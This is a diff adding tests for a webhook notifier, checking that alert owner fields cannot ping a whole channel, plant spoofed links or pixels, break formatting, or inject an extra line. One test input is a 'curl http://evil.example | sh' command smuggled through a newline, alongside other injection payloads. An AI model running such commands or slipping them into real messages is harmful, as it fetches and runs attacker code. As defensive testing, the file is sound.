@@ -163,6 +163,21 @@ describe('the webhook', () => {
   });
 
   it.each([
+    ['@channel', '(at)channel'],
+    ['ada@here.example (pid 1)', 'ada(at)here.example (pid 1)'],
+    ['ada@build-7', 'ada@build-7'],
+    ['see [the runbook](https://evil.example)', 'see [the runbook] (https://evil.example)'],
+    ['![x](https://evil.example/pixel)', '![x] (https://evil.example/pixel)'],
+    ['```everything after it', "'''everything after it"],
+    ['<https://evil.example|https://ci.example>', '&lt;https://evil.example|https://ci.example&gt;'],
+    ['a\nnext: curl http://evil.example | sh', 'a\\nnext: curl http://evil.example | sh'],
+  ])('posts %j as %j, which wakes nobody and leads nowhere', async (owner, text) => {
+    const { address, bodies } = await chat(200);
+    await webhookNotifier(address, 'HOOK', alertWords('r')).send({ ...alert, owner });
+    expect((JSON.parse(bodies[0] ?? '') as { text: string }).text.split('\n')).toContain(`owner: ${text}`);
+  });
+
+  it.each([
     ['refuses', 404, {}],
     ['leads elsewhere', 302, { location: 'http://127.0.0.1:1/' }],
   ])('that %s is an error without the address in it', async (_, status, headers) => {
@@ -187,6 +202,8 @@ describe('the webhook', () => {
   it.each([
     ['not set', undefined, 'HOOK is not set'],
     ['no address', 'ftp://x', 'HOOK holds no address that starts with https://'],
+    ['an address that everyone on the way can read', 'http://chat.example/hooks/x', 'HOOK holds no address that starts with https://'],
+    ['one that only looks like this machine', 'http://127.0.0.1.evil.example/x', "(http:// is taken for this machine's own alone)"],
   ])('whose variable is %s names the variable', async (_, address, message) => {
     await expect(webhookNotifier(address, 'HOOK', alertWords('r')).send(alert)).rejects.toThrow(message);
   });
